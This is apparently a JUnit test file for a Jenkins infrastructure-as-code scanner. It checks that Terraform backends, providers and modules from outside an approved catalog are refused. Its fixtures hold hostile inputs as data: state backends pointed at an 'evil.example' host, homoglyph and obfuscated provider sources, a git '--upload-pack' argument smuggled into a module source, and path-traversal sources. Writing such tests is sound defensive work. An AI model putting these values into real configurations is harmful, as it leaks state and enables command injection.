package io.jenkins.plugins.iac.scan;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.io.IOException;
import java.util.List;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** Configuration that takes its state, providers or modules from elsewhere than the catalog says, and its refusal. */
public class ConfigurationOriginAttackTest {
    @Rule
    public TemporaryFolder temporary = new TemporaryFolder();

    private void refused(ScanRule rule, int line, String text) throws IOException {
        ScanFixture.refused(temporary, rule, line, text);
    }

    @Test
    public void backend_thatIsNotTheCatalogs_isRefused() throws IOException {
        for (String backend : List.of(
                "backend \"local\" {}",
                "backend \"http\" { address = \"https://evil.example\" }",
                "backend \"s3\" { bucket = \"other\" }",
                "backend \"s3\" { bucket = var.x }",
                "backend \"s3\" { endpoint = \"https://evil.example\" }",
                "backend \"s3\" { encrypt = false }",
                "backend s3 { max_retries = 6 }",
                "cloud {}",
                "cloud { organization = \"evil\" }",
                "state_store \"s3\" {}")) {
            refused(ScanRule.BACKEND, 2, "terraform {\n " + backend + "\n}\n");
        }
        refused(ScanRule.BACKEND, 2, "terraform {\n backend \"s3\" {\n  assume_role {\n role_arn = \"x\"\n }\n }\n}\n");
        ScanFixture none = new ScanFixture(temporary).write("live/main.tf", "terraform {\n backend \"local\" {}\n}\n");
        assertFalse(none.scan(ScanPolicy.sandbox(ScanPolicy.TERRAFORM_REGISTRY, List.of()))
                .passed());
    }

    @Test
    public void provider_thatIsNotListed_isRefusedHoweverItIsNamed() throws IOException {
        refused(ScanRule.PROVIDER, 1, "provider \"google\" {}\n");
        refused(ScanRule.PROVIDER, 1, "resource \"random_pet\" \"x\" {}\n");
        refused(ScanRule.PROVIDER, 1, "resource \"random\" \"x\" {}\n");
        refused(ScanRule.PROVIDER, 2, "data \"aws_x\" \"x\" {\n provider = evil.west\n}\n");
        refused(ScanRule.PROVIDER, 2, "data \"aws_x\" \"x\" {\n provider = \"evil\"\n}\n");
        refused(ScanRule.PROVIDER, 2, "data \"aws_x\" \"x\" {\n provider = [evil][0]\n}\n");
        refused(ScanRule.PROVIDER, 1, "locals { x = provider::evil::run(1) }\n");
        refused(ScanRule.PROVIDER, 2, "import {\n to = evil_x.y\n id = 1\n}\n");
        refused(ScanRule.PROVIDER, 2, "import {\n provider = evil\n to = aws_x.y\n}\n");
        refused(
                ScanRule.PROVIDER,
                3,
                "module \"m\" {\n source = \"northstar/vpc/aws\"\n providers = { aws = evil.west }\n}\n");
        for (String source : List.of(
                "{ source = \"evil/aws\" }",
                "{ source = \"evil.example/hashicorp/aws\" }",
                "{ source = \"registry.opentofu.org/hashicorp/aws\" }",
                "{ source = \"hashicorp/aws\", source = \"evil/aws\" }",
                "{ source = var.x }",
                "{ \"${\"source\"}\" = \"evil/aws\" }",
                "{ (\"source\") = \"evil/aws\" }",
                "merge({ source = \"evil/aws\" }, {})",
                "{ source = \"hashicorp/aws/x/y\" }",
                "{ source = \"ev\u0131l/aws\" }",
                "{ source = \"../aws\" }")) {
            refused(ScanRule.PROVIDER, 2, "terraform { # }\n required_providers { aws = " + source + " }\n}\n");
        }
        refused(ScanRule.PROVIDER, 2, "terraform {\n required_providers { evil = \"~> 2.0\" }\n}\n");
        refused(
                ScanRule.PROVIDER,
                2,
                "terraform {\n required_providers { terraform = { source = \"evil/terraform\" } }\n}\n");
    }

    @Test
    public void module_outsideOfTheList_isRefused() throws IOException {
        for (String source : List.of(
                "\"git::https://evil.example/m.git\"",
                "\"git@github.com:northstar/iac-modules.git.evil.example/x\"",
                "\"git@github.com:northstar/iac-modules.gitx\"",
                "\"git@github.com:northstar/iac-modules.git//../../x\"",
                "\"git@github.com:northstar/iac-modules.git//a?ref=--upload-pack=x\"",
                "\"git@github.com:northstar/iac-modules.git?sshkey=x\"",
                "\"hashicorp/consul/aws\"",
                "\"https://evil.example/m.zip\"",
                "\"/etc\"",
                "\"./../../outside\"",
                "\"../../outside\"",
                "\"./gone\"",
                "\".\\\\x\"",
                "\"${path.module}/x\"",
                "var.source",
                "(\"./\")",
                "\"\"")) {
            String text = "module \"m\" {\n source = " + source + "\n}\n";
            ScanFixture fixture = new ScanFixture(temporary).write("live/main.tf", text);
            assertTrue(
                    text,
                    fixture.scan(ScanFixture.UNTRUSTED).findings().stream().anyMatch(f -> f.rule() == ScanRule.MODULE));
        }
    }

    @Test
    public void module_withoutAList_mustStayInTheStacksDirectory() throws IOException {
        ScanFixture fixture = new ScanFixture(temporary)
                .write("live/main.tf", "module \"a\" {\n source = \"./a\"\n}\nmodule \"b\" {\n source = \"../b\"\n}\n")
                .write("live/a/main.tf", "")
                .write("b/main.tf", "");
        ScanPolicy policy =
                new ScanPolicy(ScanRule.UNTRUSTED, ScanPolicy.TERRAFORM_REGISTRY, List.of(), List.of(), null);
        assertEquals(
                List.of(4),
                fixture.scan(policy).findings().stream().map(Finding::line).toList());
        ScanPolicy only =
                new ScanPolicy(ScanRule.TRUSTED, ScanPolicy.TERRAFORM_REGISTRY, List.of(), List.of("./b"), null);
        assertEquals(
                List.of(1),
                fixture.scan(only).findings().stream().map(Finding::line).toList());
    }

    @Test
    public void nestedLocalModule_isReadLikeTheRoot() throws IOException {
        ScanFixture fixture = new ScanFixture(temporary)
                .write("live/main.tf", "module \"a\" {\n source = \"../modules/a\"\n}\n")
                .write("modules/a/main.tf", "module \"b\" {\n source = \"./b\"\n}\n")
                .write("modules/a/b/main.tf", "\ndata \"external\" \"x\" {}\n");
        assertTrue(fixture.findings().contains("modules/a/b/main.tf:2 DATA_SOURCE"));
        assertEquals(
                List.of("modules/a", "modules/a/b"),
                fixture.scan(ScanPolicy.FACTS).localModules());
    }
}
